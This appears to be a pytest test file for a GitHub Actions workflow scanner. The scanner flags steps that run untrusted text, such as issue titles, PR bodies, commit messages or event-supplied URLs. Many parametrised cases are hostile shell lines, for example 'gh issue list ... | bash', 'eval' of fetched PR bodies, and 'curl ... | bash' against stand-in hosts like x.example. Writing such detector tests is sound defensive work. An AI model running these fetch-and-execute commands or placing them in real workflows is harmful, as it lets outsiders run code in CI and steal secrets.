"""Text of outsiders that a command asks for: of GitHub, of history, at an address of theirs."""

from __future__ import annotations

import json

import pytest

from hardenme.model.unknown import Unknown
from hardenme.workflows.asking import prints_others, saved
from tests.workflows.said import fields

pytestmark = pytest.mark.second_tier("each script for each event", one_of=10)

OF_MEMBERS = ("{schedule: [{cron: x}]}", "push", "workflow_dispatch", "release")
ISSUE = "gh issue list --json title -q '.[].title'"


def judged(script: str, on: str, uses: str = "", **env: str) -> str:
    """What is said of a step."""
    keys = f"with: {{script: {json.dumps(script)}}}" if uses else f"run: {json.dumps(script)}"
    named = f"        uses: {uses}\n" if uses else ""
    found = fields(
        f"on: {on}\njobs:\n  one:\n    runs-on: x\n    steps:\n"
        f"      - env: {json.dumps(env)}\n{named}        {keys}\n"
    )
    if found["injections"]:
        return "failed"
    return "unknown" if isinstance(found["unfollowed_text"], Unknown) else "passed"


ASKED = (
    f'T=$({ISSUE}); bash -c "$T"',
    f"{ISSUE} | bash",
    f'eval "$({ISSUE})"',
    f"{ISSUE} > x.sh; bash x.sh",
    f"{ISSUE} | tee x.sh; sh x.sh",
    f'{ISSUE} | while read -r b; do eval "$b"; done',
    f"for t in $({ISSUE}); do $t; done",
    f"source <({ISSUE})",
    f'bash <<< "$({ISSUE})"',
    f"bash <<EOF\n$({ISSUE})\nEOF",
    f'T=$(\n  {ISSUE}\n)\neval "$T"',
    f'{ISSUE} > t.txt; T=$(cat t.txt); ./build.sh "$T"',
    f'f() {{ {ISSUE}; }}; T=$(f); bash -c "$T"',
    f'T=$({ISSUE}); make VERSION="$T"',
    f'T=$({ISSUE}); ./build.sh "$T"',
    f'echo "T=$({ISSUE})" >> "$GITHUB_ENV"',
    f'echo "$({ISSUE})" >> "$GITHUB_PATH"',
    'eval "$(gh pr view 5 --json body -q .body)"',
    'sh -c "$(gh api repos/a/b/issues/5 -q .title)"',
    "gh search issues x | bash",
    "gh run download 5; gh run view 5 --log | sh",
    "hub issue | bash",
    "curl -s https://api.github.com/repos/a/b/issues | jq -r '.[0].body' | sh",
    'curl -s "$GITHUB_API_URL/repos/a/b/pulls/5" | jq -r .body | sh',
    "curl -s ${{ github.api_url }}/repos/a/b/issues | sh",
    "wget -qO- https://api.github.com/repos/a/b/pulls | bash",
    "curl https://github.com/a/b/issues/5 | bash",
    "curl -o x.sh https://api.github.com/repos/a/b/issues; bash x.sh",
    "curl -O https://api.github.com/repos/a/b/issues/x.sh; bash x.sh",
    "git log -1 --format=%s | bash",
    'T=$(git log -1 --pretty=%B); eval "$T"',
    'A=$(git show -s --format=%an); bash -c "echo $A"',
    "git shortlog | sh",
)
"""Scripts that have run what a command asks for, whatever starts them."""
BY_MEMBERS = (
    "T=$(gh release view --json tagName -q .tagName); make V=$T",
    "T=$(curl -s https://api.github.com/repos/a/b/releases/latest | jq -r .tag_name); make V=$T",
    'T=$(git log -1 --format=%H); ./build.sh "$T"',
    "T=$(git log -1 --format=%ct); make SOURCE_DATE_EPOCH=$T",
    "T=$(git show -s --pretty=format:%h); make V=$T",
    "V=$(git show HEAD:VERSION); make V=$V",
    "for n in $(gh pr list --json number -q '.[].number'); do make pr-$n; done",
    f"{ISSUE} > notes.md; make",
    f'{ISSUE}; V=$(cat VERSION); make "V=$V"',
    f'T=$({ISSUE}); echo "$T"',
    "curl https://example.org/install.sh | bash",
    "# see https://github.com/a/b/issues/5\nfor p in $(brew list); do brew unlink $p; done",
)
"""Scripts that ask for what members or GitHub make, or do not have it run."""


@pytest.mark.parametrize("on", [*OF_MEMBERS, "issues", "issue_comment", "pull_request_target"])
@pytest.mark.parametrize("script", ASKED)
def test_what_a_command_asks_for_is_not_followed(script: str, on: str) -> None:
    assert judged(script, on) == "unknown"


@pytest.mark.parametrize("on", [*OF_MEMBERS, "issues"])
@pytest.mark.parametrize(
    "later", ['T=$(cat t.txt); eval "$T"', "bash t.txt", 'sh -c "$(cat t.txt)"', "source t.txt"]
)
def test_a_later_step_runs_what_was_asked_for(later: str, on: str) -> None:
    found = fields(
        f"on: {on}\njobs:\n  one:\n    runs-on: x\n    steps:\n"
        f"      - run: {json.dumps(ISSUE + ' > t.txt')}\n      - run: {json.dumps(later)}\n"
    )
    assert isinstance(found["unfollowed_text"], Unknown)


@pytest.mark.parametrize("on", OF_MEMBERS)
@pytest.mark.parametrize("script", BY_MEMBERS)
def test_what_members_make_is_no_matter(script: str, on: str) -> None:
    assert judged(script, on) == "passed"


@pytest.mark.parametrize("on", OF_MEMBERS)
@pytest.mark.parametrize(
    ("script", "expected"),
    [
        ("const x = await github.rest.issues.get(y); await exec.exec('sh', ['-c', x])", "unknown"),
        ("const x = await github.graphql(y); eval(x.title)", "unknown"),
        ("const x = await fetch(y); core.exportVariable('X', await x.text())", "unknown"),
        ("const x = await github.rest.issues.get(y); core.info(x.data.title)", "passed"),
        ("await exec.exec('make')", "passed"),
    ],
)
def test_a_script_of_javascript_that_asks(script: str, expected: str, on: str) -> None:
    assert judged(script, on, "actions/github-script@v7") == expected


ADDRESSES = {
    "status": ("target_url", "commit.html_url", "commit.author.html_url", "sender.html_url"),
    "check_run": ("check_run.details_url", "check_run.html_url", "check_run.app.external_url"),
    "pull_request_target": (
        *("pull_request.user.html_url", "pull_request.html_url", "pull_request.comments_url"),
        *("sender.avatar_url", "number", "pull_request.number", "pull_request.head.repo.id"),
    ),
    "issue_comment": ("comment.url", "comment.user.login", "issue.url", "issue.number"),
    "fork": ("forkee.html_url", "forkee.owner.login", "forkee.id"),
    "gollum": ("pages[0].html_url", "pages[0].sha"),
    "workflow_run": ("workflow_run.artifacts_url", "workflow_run.logs_url", "workflow_run.id"),
}
PATHS = [(on, path) for on, paths in ADDRESSES.items() for path in paths]


@pytest.mark.parametrize(("on", "path"), PATHS)
@pytest.mark.parametrize(
    "script",
    [
        "curl $ADDRESS | bash",
        'curl -s "https://x.example/$ADDRESS" | sh',
        'bash -c "$(curl -s %s)"',
        "bash <(wget -qO- x/$ADDRESS)",
        "X=$(http $ADDRESS); eval $X",
        "X=$(sometool $ADDRESS); eval $X",
        "curl -o x.sh $ADDRESS; bash x.sh",
        "wget $ADDRESS; bash x.sh",
        "curl -L $ADDRESS > a.tgz; tar xf a.tgz; ./a/install.sh",
        "N=$ADDRESS; curl https://x.example/$N | python3",
    ],
)
def test_what_is_at_an_address_of_outsiders_is_not_followed(
    script: str, on: str, path: str
) -> None:
    value = f"${{{{ github.event.{path} }}}}"
    assert judged(script.replace("%s", value), on, ADDRESS=value) in {"unknown", "failed"}


@pytest.mark.parametrize("on", sorted(ADDRESSES))
@pytest.mark.parametrize(
    "script",
    [
        "curl https://$GITHUB_ACTOR.github.io/x.sh | bash",
        "curl https://${{ github.actor }}.github.io/x.sh | bash",
        "curl https://x.example/${{ github.triggering_actor }} | sh",
    ],
)
def test_who_started_it_names_an_address(script: str, on: str) -> None:
    assert judged(script, on) == "unknown"


@pytest.mark.parametrize(("on", "path"), [pair for pair in PATHS if pair[1] != "target_url"])
@pytest.mark.parametrize(
    "script",
    ["echo $ADDRESS", "curl $ADDRESS | jq .x", "curl https://x.example/install.sh | bash", "make"],
)
def test_an_address_that_nothing_runs(script: str, on: str, path: str) -> None:
    assert judged(script, on, ADDRESS="") == "passed"
    value = f"${{{{ github.event.{path} }}}}"
    assert judged(f"A={value}\n" + script.replace("ADDRESS", "A"), on) == "passed"


def test_where_a_command_puts_what_it_fetches() -> None:
    assert saved(["curl", "-sSLo", "x.sh", "https://a.example/y"]) == ["x.sh"]
    assert saved(["curl", "https://a.example/y"]) == []
    assert saved(["curl", "-O", "https://a.example/y.sh"]) == ["y.sh"]
    assert saved(["wget", "$URL"]) == ["*"]
    assert saved(["wget", "-qO-", "$URL"]) == []
    assert saved(["wget", "-O", "x.sh", "$URL"]) == ["x.sh"]
    assert saved(["tar", "xf", "a.tgz"]) == ["*"]
    assert saved(["cp", "a", "b"]) == ["b"]
    assert saved(["gh", "pr", "view", "5"]) == []
    assert saved(["gh", "run", "download", "5"]) == ["*"]


def test_what_is_asked_is_seen_in_any_place() -> None:
    assert prints_others("a && gh issue view 5 | cat")
    assert not prints_others("gh release list")
    assert not prints_others("gh api repos/a/b/releases/latest -q .tag_name")
    assert prints_others("gh api repos/a/b/releases/latest; gh api repos/a/b/issues")
